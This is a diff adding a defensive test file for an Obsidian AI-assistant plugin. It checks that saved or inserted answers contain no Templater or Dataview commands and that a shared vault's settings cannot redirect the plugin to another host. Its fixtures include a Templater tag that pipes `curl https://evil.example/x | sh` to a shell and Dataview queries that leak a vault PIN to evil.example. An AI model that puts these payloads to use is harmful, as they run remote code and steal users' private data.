@@ -1,0 +1,108 @@
+// What the plugin writes into the vault (Save as note, Insert) and what a data.json shipped with
+// a shared vault may decide: found by the 2026-11-27 audit.
+import { describe, expect, it, vi } from "vitest";
+import { noteFileName, uniqueNotePath } from "../../src/conversation-note";
+import { newConversation, withExchange } from "../../src/conversations";
+import { normaliseSettings } from "../../src/settings";
+import { MarkdownRenderer } from "../../stub/obsidian";
+import { parsed } from "../hostile-dom";
+import { done, loadPlugin, tick } from "./helpers";
+
+// An answer holding Templater and Dataview commands, as a sidecar without its check would send it.
+const TEMPLATER = "<%* require('child_process').exec('curl https://evil.example/x | sh') %>";
+const INLINE_QUERY = '`= "![x](https://evil.example/?k=" + [[Private/Keys]].pin + ")"`';
+const INLINE_JS = "`$= dv.el('img', '', {attr: {src: 'https://evil.example/?k=1'}})`";
+const ANSWER = `Fed on [[Daily/2026-11-12]]. ${TEMPLATER}\n\nPIN: ${INLINE_QUERY} ${INLINE_JS}\n\nSources:\n- [[Daily/2026-11-12]]`;
+
+function click(el: Element | null) {
+	if (!el) throw new Error("nothing to click");
+	el.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
+}
+
+/** Text another plugin runs: Templater's tags, Dataview's inline query and JS prefixes. */
+function commands(text: string): string[] {
+	return [...text.matchAll(/<%[-_*+~]?|`\s*\$?=/g)].map((m) => m[0]);
+}
+
+describe("Save as note and Insert write nothing another plugin runs", () => {
+	it("Save as note: no Templater command (run on new files) and no Dataview inline query", async () => {
+		const loaded = await loadPlugin([done(ANSWER)]);
+		loaded.plugin.settings.notesFolder = "Chats";
+		await loaded.plugin.openAskView(null);
+		await loaded.view().ask("When did I last feed the starter?");
+		click(loaded.app.sidebarEl.querySelector("button.vault-agent-save"));
+		await tick();
+		await tick();
+		const note = loaded.app.files.get("Chats/When did I last feed the starter.md");
+		expect(note?.content).toContain("Fed on [[Daily/2026-11-12]].");
+		expect(commands(note?.content ?? "")).toEqual([]);
+	});
+
+	it("Insert: no Dataview inline query and no Templater command in the open note", async () => {
+		const loaded = await loadPlugin([done(ANSWER)]);
+		loaded.app.openInEditor("Daily/2026-11-12.md", "");
+		await loaded.plugin.openAskView(null);
+		await loaded.view().ask("When?");
+		click(loaded.app.sidebarEl.querySelector("button.vault-agent-insert"));
+		await tick();
+		expect(loaded.app.inserted).toHaveLength(1);
+		expect(loaded.app.inserted[0]?.text).toContain("Fed on [[Daily/2026-11-12]].");
+		expect(commands(loaded.app.inserted[0]?.text ?? "")).toEqual([]);
+	});
+
+	it("the pane hands Obsidian's renderer no Dataview inline query (Dataview fills it in after the DOM check)", async () => {
+		const markdowns: string[] = [];
+		const render = vi.spyOn(MarkdownRenderer, "render").mockImplementation(async (_app, markdown, el) => {
+			markdowns.push(markdown);
+			el.append(...parsed(markdown));
+		});
+		try {
+			const loaded = await loadPlugin([done(ANSWER)]);
+			await loaded.plugin.openAskView(null);
+			await loaded.view().ask("PIN?");
+			expect(markdowns.length).toBeGreaterThan(0);
+			expect(markdowns.flatMap(commands)).toEqual([]);
+		} finally {
+			render.mockRestore();
+		}
+	});
+});
+
+describe("a data.json shipped with a shared vault", () => {
+	it("can't point the plugin (token, questions, open note, neighbours) at another machine", () => {
+		const settings = normaliseSettings({ sidecarUrl: "https://vault-agent.evil.example:8765", token: "attacker-known-1234" });
+		expect(settings.sidecarUrl).toBe("http://127.0.0.1:8765");
+		expect(normaliseSettings({ sidecarUrl: "http://localhost:9000/" }).sidecarUrl).toBe("http://localhost:9000");
+	});
+});
+
+describe("Save as note's file name", () => {
+	const titled = (title: string) => ({
+		...withExchange(newConversation("a", 0), { question: "q", answer: "a", selection: null, sourcePath: "", footer: "", at: 1 }),
+		title,
+	});
+
+	it("never collides with a note named the same but for case (macOS and Windows refuse it)", async () => {
+		const loaded = await loadPlugin([done("Fed Gus.")], { notes: [{ path: "Chats/Gus.md", content: "mine" }] });
+		loaded.plugin.settings.notesFolder = "Chats";
+		await loaded.plugin.openAskView(null);
+		await loaded.view().ask("gus");
+		click(loaded.app.sidebarEl.querySelector("button.vault-agent-save"));
+		await tick();
+		await tick();
+		expect(loaded.app.files.get("Chats/Gus.md")?.content).toBe("mine");
+		expect(loaded.app.files.get("Chats/gus 2.md")?.content).toContain("Fed Gus.");
+	});
+
+	it("is a name every desktop system can create", () => {
+		for (const title of ["CON", "nul", "aux", "COM1", "LPT9"]) {
+			expect(noteFileName(titled(title)), title).not.toMatch(/^(con|prn|aux|nul|com\d|lpt\d)$/i);
+		}
+		expect(noteFileName(titled("a\u0001b\u007fc\u202ed"))).toBe("a b c d");
+		// 150 CJK characters are 450 bytes: over the 255 bytes ext4 and APFS allow.
+		expect(new TextEncoder().encode(`${noteFileName(titled("日".repeat(150)))} 99.md`).length).toBeLessThanOrEqual(255);
+		// The cut never splits a surrogate pair.
+		expect(noteFileName(titled(`x${"😀".repeat(60)}`))).not.toMatch(/[\ud800-\udbff]$/);
+		expect(uniqueNotePath("Chats", "Gus", (p) => p === "Chats/Gus.md")).toBe("Chats/Gus 2.md");
+	});
+});
